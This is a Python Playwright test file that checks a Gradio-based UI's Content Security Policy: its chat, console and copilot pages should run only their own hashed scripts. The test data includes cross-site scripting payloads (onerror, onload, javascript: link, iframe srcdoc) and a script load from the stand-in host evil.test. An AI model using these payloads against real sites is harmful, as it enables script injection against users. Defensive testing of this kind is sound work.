"""Gradio's pages run the scripts that they were served with, and no others."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.ui.browsing import MILLISECONDS, Served, chromium, scripted_site, until, visiting
from tests.ui.console.consoles import open_tab
from tests.ui.widget.hosting import WATCH
from ui.access.page_policy import PAGES, policy_of
from ui.server import SURFACES

expect.set_options(timeout=MILLISECONDS)


def hash_of(script: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


def test_exactly_the_inline_scripts_are_named() -> None:
    page = "<script>a()</script><script src='x.js'></script><SCRIPT type=module>\nc()\r\n</SCRIPT><p>d()</p>"
    policy = policy_of(page.encode())
    assert hash_of("a()") in policy and hash_of("\nc()\n") in policy
    assert policy.count("'sha256-") == 2 and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]


def test_every_page_of_gradios_has_its_hashes() -> None:
    assert {f"{path.rstrip('/')}/" for path in SURFACES} == PAGES


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with scripted_site(tmp_path_factory.mktemp("scripts")) as served:
        yield served


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


INJECT = """() => {
  window.ran = [];
  const box = document.createElement("div");
  box.innerHTML = `<img src=x onerror="ran.push('onerror')"><a id=js href="javascript:ran.push('href')">x</a>
    <svg onload="ran.push('onload')"></svg><iframe srcdoc="<script>parent.ran.push('srcdoc')</scr` + `ipt>"></iframe>`;
  document.body.append(box);
  const script = document.createElement("script");
  script.textContent = "ran.push('script')";
  document.body.append(script);
  document.querySelector("#js").click();
}"""
FOREIGN = """() => {
  const script = document.createElement("script");
  script.src = "https://evil.test/x.js";
  document.body.append(script);
}"""


def check(page: Page) -> None:
    """What the page does by itself breaks no rule; what somebody brought into it does not run."""
    assert page.evaluate("violations") == []
    page.evaluate(INJECT)
    page.wait_for_timeout(500)
    assert page.evaluate("ran") == []
    assert page.evaluate("violations.length") >= 4
    page.evaluate(FOREIGN)
    until(page, "violations.some((one) => one.includes('evil.test'))")


@pytest.mark.browser
def test_the_chat_page_works_and_runs_nothing_that_is_brought_into_it(browser: Browser, site: Served) -> None:
    with visiting(browser, site.url) as visit:
        visit.context.add_init_script(WATCH)
        visit.page.reload()
        visit.page.wait_for_selector("#question textarea")
        visit.ask("How is a lamp switched on?")
        expect(visit.last()).to_contain_text("red lever")
        visit.page.get_by_role("button", name="New chat").first.click()
        assert visit.hosts == {site.url.split("/")[2]}
        check(visit.page)
        assert visit.errors == []


@pytest.mark.browser
def test_console_and_copilot_work_and_run_nothing_that_is_brought_into_them(browser: Browser, site: Served) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{site.url}/console/")
    for tab in ("Conversations", "Knowledge", "Adaptation", "Sites", "People", "Settings", "Overview"):
        open_tab(page, tab)
        page.wait_for_timeout(300)
    check(page)
    page.goto(f"{site.url}/copilot/")
    page.get_by_role("button", name="Keys").click()  # by the page's own script
    expect(page.locator("#copilot-help")).to_be_visible()
    check(page)
    assert errors == []
    context.close()


@pytest.mark.browser
def test_the_pages_own_scripts_are_files_that_are_found(site: Served) -> None:
    import httpx

    told = httpx.get(f"{site.url}/copilot/config", trust_env=False).text
    named = re.findall(r"/own/[a-z]+\.js\?[0-9a-f]{12}", told)
    assert {Path(one.split("?")[0]).name for one in named} == {"keys.js", "copilot.js"}
    for one in named:
        assert (
            httpx.get(f"{site.url}{one}", trust_env=False).headers["content-type"].split(";")[0].endswith("/javascript")
        )
